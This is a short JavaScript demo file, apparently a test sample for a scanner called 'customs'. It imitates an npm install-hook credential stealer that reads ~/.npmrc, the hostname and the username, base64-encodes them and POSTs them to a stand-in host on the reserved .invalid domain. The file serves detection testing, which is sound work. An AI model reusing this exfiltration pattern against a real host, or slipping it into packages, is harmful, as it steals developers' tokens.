// customs demo — INERT imitation of an install-time credential stealer.
// It shows the pattern customs detects: an install hook that reads the npm
// token and posts it elsewhere. The collector below is on the reserved
// .invalid domain (RFC 2606), which never resolves, so this cannot send
// anything anywhere. Never install this package; customs only reads it.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const payload = Buffer.from(JSON.stringify({
  host: os.hostname(),
  user: os.userInfo().username,
  npmrc: npmrc,
})).toString('base64');

const req = https.request({
  hostname: 'collector.example.invalid',
  path: '/upload',
  method: 'POST',
});
req.write(payload);
req.end();
